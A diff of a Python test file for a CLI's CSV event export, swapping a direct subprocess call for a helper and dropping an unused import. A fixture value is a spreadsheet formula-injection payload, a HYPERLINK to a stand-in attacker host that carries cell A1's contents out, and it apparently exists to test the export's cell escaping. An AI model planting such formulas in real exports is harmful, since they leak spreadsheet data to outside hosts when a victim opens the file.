@@ -7,7 +7,6 @@ import io
 import json
 import os
 import subprocess
-import sys
 import time
 import tracemalloc
 from pathlib import Path
@@ -22,6 +21,7 @@ from kt.cli import cli as kt_cli
 from kt.event_export import csv_header, safe_cell
 from sync.clock import rfc3339
 from tests.gateway_harness import write_config
+from tests.kt_process import run_kt
 
 TOKEN = "adm-export-token"
 HOSTILE_USER = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
@@ -30,8 +30,7 @@ TERM = "project-bluebird"
 
 def kt(*args: str, **env: str) -> subprocess.CompletedProcess[str]:
     environ = {k: v for k, v in os.environ.items() if k not in ("KEEPTRUSTS_ADMIN_TOKEN", "FORCE_COLOR")}
-    return subprocess.run([sys.executable, "-m", "kt", *args], capture_output=True, text=True, timeout=120,
-                          env={**environ, **env})
+    return run_kt(*args, timeout=120, env={**environ, **env})
 
 
 def config(path: Path) -> Path:
